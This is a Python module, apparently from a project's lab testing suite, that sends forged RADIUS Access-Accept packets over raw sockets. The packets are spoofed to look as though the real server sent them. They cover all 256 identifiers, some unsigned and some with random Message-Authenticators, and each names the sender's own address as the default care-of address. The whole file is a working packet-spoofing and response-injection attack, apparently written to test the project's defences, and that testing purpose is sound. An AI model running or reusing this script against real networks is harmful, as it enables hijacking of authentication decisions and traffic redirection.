"""Sends forged RADIUS answers from inside the stranger's namespace: `python -m locum.lab.forging.radius_forgery SERVER TARGET PORT
SECONDS CARE_OF`.

The stranger knows everything but the secret: the server's address, and the port that the questions come from. Each
round has an Access-Accept for every identifier without a Message-Authenticator, and one with a wrong one; all of them
say that CARE_OF, the stranger's own address, is the default care-of address. It prints how many went out.
"""

import os
import socket
import struct
import sys
import time
from ipaddress import IPv4Address

from locum.node.config.policy_settings import RADIUS_PORT

ACCESS_ACCEPT, VENDOR_SPECIFIC, MESSAGE_AUTHENTICATOR = 2, 26, 80
ENTERPRISE, DEFAULT_COA = 32473, 8
_PAUSE = 0.02  # seconds between rounds


def answer(identifier: int, care_of: IPv4Address, *, signed: bool) -> bytes:
    """An Access-Accept made without the secret."""
    inner = struct.pack("!IBB", ENTERPRISE, DEFAULT_COA, 6) + care_of.packed
    attributes = struct.pack("!BB", VENDOR_SPECIFIC, 2 + len(inner)) + inner
    if signed:
        attributes = struct.pack("!BB", MESSAGE_AUTHENTICATOR, 18) + os.urandom(16) + attributes
    return struct.pack("!BBH", ACCESS_ACCEPT, identifier, 20 + len(attributes)) + os.urandom(16) + attributes


def datagram(server: IPv4Address, target: IPv4Address, port: int, payload: bytes) -> bytes:
    """An IPv4 packet as if the server had sent it; the kernel adds length and checksum."""
    return datagram_between(server, RADIUS_PORT, target, port, payload)


def datagram_between(
    source: IPv4Address, source_port: int, target: IPv4Address, port: int, payload: bytes
) -> bytes:
    """The same from any port of any source."""
    udp = struct.pack("!HHHH", source_port, port, 8 + len(payload), 0) + payload
    header = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0)
    return header + source.packed + target.packed + udp


def main() -> None:
    """Send until the time is over."""
    server, target, care_of = (IPv4Address(sys.argv[place]) for place in (1, 2, 5))
    port, end, sent = int(sys.argv[3]), time.monotonic() + float(sys.argv[4]), 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        raw.bind((str(care_of), 0))  # the way out is that of the host's own address, whatever the packets say
        while time.monotonic() < end:
            for identifier in range(256):
                for signed in (False, True):
                    packet = datagram(server, target, port, answer(identifier, care_of, signed=signed))
                    raw.sendto(packet, (str(target), 0))
                    sent += 1
            time.sleep(_PAUSE)
    print(sent)


if __name__ == "__main__":
    main()
